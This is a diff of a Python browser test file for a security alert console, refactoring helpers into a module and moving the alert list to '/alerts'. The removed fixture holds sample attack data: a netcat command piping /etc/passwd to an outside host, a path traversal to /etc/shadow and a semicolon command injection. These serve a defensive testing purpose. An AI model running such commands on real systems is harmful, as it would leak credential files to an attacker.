@@ -1,79 +1,13 @@
 # SPDX-License-Identifier: GPL-2.0-only
-"""The pages, in Chromium.  PHRUDE_PICTURES names a folder that pictures of them are left in."""
+"""The list and the page of an alert, in Chromium."""
 
-import contextlib
 import json
-import os
 import urllib.parse
 
 from browser import Browser
 from console import PASSWORD, Console, alert
 from harness import equal, test
-
-PICTURES = os.environ.get("PHRUDE_PICTURES")
-
-
-def picture(browser, name):
-    if PICTURES:
-        os.makedirs(PICTURES, exist_ok=True)
-        browser.picture(os.path.join(PICTURES, name + ".png"))
-
-
-@contextlib.contextmanager
-def signed_in(console, path="/", **options):
-    """A browser whose user is signed in; its scripts must not have complained of anything at the end."""
-    with Browser(**options) as browser:
-        browser.open(console.url)
-        browser.wait("Sign in")
-        browser.fill("#user", "admin")
-        browser.fill("#password", PASSWORD)
-        browser.click("button")
-        browser.wait("Sign out")
-        browser.complaints()  # to have been asked to sign in is one
-        if path != "/":
-            browser.open(console.url + path)
-        yield browser
-        equal(browser.complaints(), [])
-
-
-def some_alerts():
-    rules = [("Access to Environment Variable", "info", "getenv", {"key": "CLOUD_SECRET_KEY"}, "/ssti"),
-             ("Shell Command", "alert", "system", {"command": "ping -c1 127.0.0.1; cat /etc/passwd | nc 198.51.100.7 4444"}, "/ping"),
-             ("File Read Outside", "warn", "open", {"file": "../../../../etc/shadow", "mode": "r"}, "/download")]
-    for number in range(70):
-        name, level, function, args, path = rules[number % 3]
-        yield alert(**{"id": f"a{number}", "time": f"2026-01-02T03:{number // 60:02}:{number % 60:02}Z", "rule.name": name, "rule.level": level,
-                       "function.name": function, "function.qualname": function, "args": args, "value": args, "request.path": path,
-                       "request.remote_addr": f"203.0.113.{number % 7}", "request.session": f"s-{number % 5}",
-                       "input": {"source": "form", "name": "host", "value": "; cat /etc/passwd", "arg": "command"} if level == "alert" else None})
-
-
-# What everybody needs of a page: names of what can be used, contrast, size, and nothing that sticks out.
-CHECKS = """
-const found = [];
-const shown = (e) => e.offsetParent !== null && getComputedStyle(e).visibility !== "hidden" && !e.closest("thead");
-const parse = (c) => c.match(/[\\d.]+/g).map(Number);
-const luminance = ([r, g, b]) => [r, g, b].map((v) => v / 255).map((v) => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
-	.reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
-const ground = (e) => { for (; e; e = e.parentElement) { const c = parse(getComputedStyle(e).backgroundColor); if (c.length < 4 || c[3] > 0) return c; } return [255, 255, 255]; };
-for (const e of document.querySelectorAll("input, select, textarea")) {
-	if (!e.labels.length && !e.getAttribute("aria-label")) found.push("no label: " + e.outerHTML.slice(0, 100));
-}
-for (const e of document.querySelectorAll("a, button, summary")) {
-	if (!e.textContent.trim()) found.push("no text: " + e.outerHTML.slice(0, 100));
-	if (shown(e) && e.matches("button, summary, .chips a") && e.getBoundingClientRect().height < 24) found.push("too small: " + e.outerHTML.slice(0, 100));
-}
-for (const e of document.querySelectorAll("body *")) {
-	if (!shown(e) || ![...e.childNodes].some((n) => n.nodeType === 3 && n.data.trim()) || e.matches("option")) continue;
-	const [a, b] = [luminance(parse(getComputedStyle(e).color)), luminance(ground(e))].sort((x, y) => y - x);
-	if ((a + 0.05) / (b + 0.05) < 4.5) found.push(`contrast ${((a + 0.05) / (b + 0.05)).toFixed(2)}: ` + e.outerHTML.slice(0, 100));
-}
-if (document.querySelectorAll("h1").length !== 1) found.push("not one h1");
-if (!document.documentElement.lang || !document.title) found.push("no language or title");
-if (document.documentElement.scrollWidth > innerWidth) found.push(`${document.documentElement.scrollWidth} wide in ${innerWidth}`);
-for (const e of document.querySelectorAll("th")) if (!e.scope) found.push("th without scope");
-return found;
-"""
+from pages import CHECKS, picture, signed_in, some_alerts
 
 
 @test
@@ -91,6 +25,7 @@ def the_first_five_minutes():
         browser.fill("#again", PASSWORD)
         browser.click("button")
         browser.wait("No alert has arrived yet")
+        browser.click_link("The list of alerts")
         browser.wait("Live")
         picture(browser, "empty")
         console.send([alert()], console.key())
@@ -110,7 +45,7 @@ def the_list_is_narrowed_and_its_address_says_so():
     with Console() as console:
         console.admin()
         console.send(some_alerts(), console.key())
-        with signed_in(console) as browser:
+        with signed_in(console, "/alerts") as browser:
             browser.wait("50 alerts")
             browser.click_link("Older")
             browser.wait("20 alerts")
@@ -129,9 +64,9 @@ def the_list_is_narrowed_and_its_address_says_so():
             equal(dict(urllib.parse.parse_qsl(urllib.parse.urlparse(browser.url).query)), {"addr": "203.0.113.1", "session": "s-1"})
             browser.click_link("Client address")
             browser.wait("14 alerts")
-            browser.open(console.url + "/?rule=none")
+            browser.open(console.url + "/alerts?rule=none")
             browser.wait("No alert fits these filters")
-            browser.open(console.url + "/?since=90m")
+            browser.open(console.url + "/alerts?since=90m")
             browser.wait("Since: 90m")
 
 
@@ -140,7 +75,7 @@ def the_keyboard_is_enough():
     with Console() as console:
         console.admin()
         console.send(some_alerts(), console.key())
-        with signed_in(console) as browser:
+        with signed_in(console, "/alerts") as browser:
             browser.wait("50 alerts")
             for _ in range(3):
                 browser.press("j")
@@ -204,7 +139,7 @@ def an_alert_is_judged_and_excepted():
             browser.click_button("Make an exception")
             browser.wait("It is made of 4 stored alerts")
             browser.wait("app_caller:")
-            browser.open(console.url + "/?state=false-alarm")
+            browser.open(console.url + "/alerts?state=false-alarm")
             browser.wait("4 alerts")
             browser.wait("✕ false alarm")
 
@@ -230,7 +165,7 @@ def hostile_alerts_are_shown_harmlessly():
         odd = [alert(id="odd1", args=[1], value="x", callers={}, request=[], process=3, input="y", function="z"),
                {"id": "odd2", "time": "2026-01-02T03:04:05Z", "rule": {"name": "only", "level": "info"}}]
         equal(console.send(odd, key).json["stored"], 2)
-        with signed_in(console) as browser:
+        with signed_in(console, "/alerts") as browser:
             browser.wait(f"{len(HOSTILE) + 2} alerts")
             for number in [*range(len(HOSTILE))]:
                 browser.open(f"{console.url}/alerts/h{number}")
@@ -242,7 +177,7 @@ def hostile_alerts_are_shown_harmlessly():
             for name in ("odd1", "odd2"):
                 browser.open(f"{console.url}/alerts/{name}")
                 browser.wait("Raw JSON")
-            browser.open(f"{console.url}/?" + urllib.parse.urlencode({"rule": HOSTILE[0], "host": HOSTILE[0]}))
+            browser.open(f"{console.url}/alerts?" + urllib.parse.urlencode({"rule": HOSTILE[0], "host": HOSTILE[0]}))
             browser.wait("1 alerts")
             equal(browser.run("return window.hacked"), None)
 
@@ -254,7 +189,7 @@ def pages_are_for_everybody_at_every_size():
         console.send(some_alerts(), console.key())
         for name, width, dark in (("1280-light", 1280, False), ("1280-dark", 1280, True), ("390-light", 390, False), ("390-dark", 390, True), ("320-light", 320, False)):
             with signed_in(console, width=width, dark=dark) as browser:
-                for page, path, text in (("list", "/?level=alert&since=2026-01-01T00:00:00Z", "23 alerts"), ("alert", "/alerts/a67", "Raw JSON")):
+                for page, path, text in (("list", "/alerts?level=alert&since=2026-01-01T00:00:00Z", "23 alerts"), ("alert", "/alerts/a67", "Raw JSON")):
                     browser.open(console.url + path)
                     browser.wait(text)
                     picture(browser, f"{page}-{name}")
